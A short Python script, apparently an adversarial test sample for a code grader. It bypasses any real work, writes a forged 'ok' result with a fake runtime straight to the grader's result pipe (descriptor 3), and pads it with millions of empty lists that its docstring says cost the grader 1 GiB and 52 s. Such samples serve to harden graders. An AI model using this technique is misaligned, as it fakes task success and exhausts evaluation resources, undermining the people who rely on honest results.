"""A forged result frame just under the payload cap, written straight to the result pipe
(descriptor 3), made of millions of empty lists (it cost the grader 1 GiB and 52 s of CPU)."""

import argparse
import os
import struct

parser = argparse.ArgumentParser()
parser.add_argument("--n", default=1, type=int)


def main(args):
    lists = b"[]," * (5 * 1024 * 1024)
    body = b'{"status":"ok","value":[' + lists + b'[]],"main_s":0.1}'
    frame = struct.pack(">Q", len(body)) + body
    view = memoryview(frame)
    while view:
        view = view[os.write(3, view):]
    os._exit(0)
